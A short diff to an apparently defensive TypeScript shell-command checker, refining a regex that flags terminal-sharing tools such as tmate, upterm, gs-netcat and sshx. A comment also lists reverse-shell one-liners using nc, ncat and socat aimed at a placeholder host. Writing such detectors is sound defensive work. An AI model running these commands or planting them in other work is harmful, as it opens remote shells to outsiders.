@@ -43,7 +43,8 @@ function isBareShell(command: ShellCommand): boolean {
 }
 
 /** `tmate -F` lets in whoever reads what it prints. */
-const SHARES_TERMINAL = /^(?:tmate(?: |$)(?!.*\b(?:-V|show)\b)|upterm host\b|gs-netcat\b|sshx(?: |$))/;
+const SHARES_TERMINAL =
+  /^(?:tmate(?! (?:-V|show\S{0,40})(?: |$))(?: |$)|upterm host\b|gs-netcat\b|sshx(?: |$))/;
 
 /** `nc -e /bin/sh host 4444`, `ncat --sh-exec bash …`, `socat exec:'bash -li',pty tcp:host:4444` */
 function startsShell(command: ShellCommand): boolean {
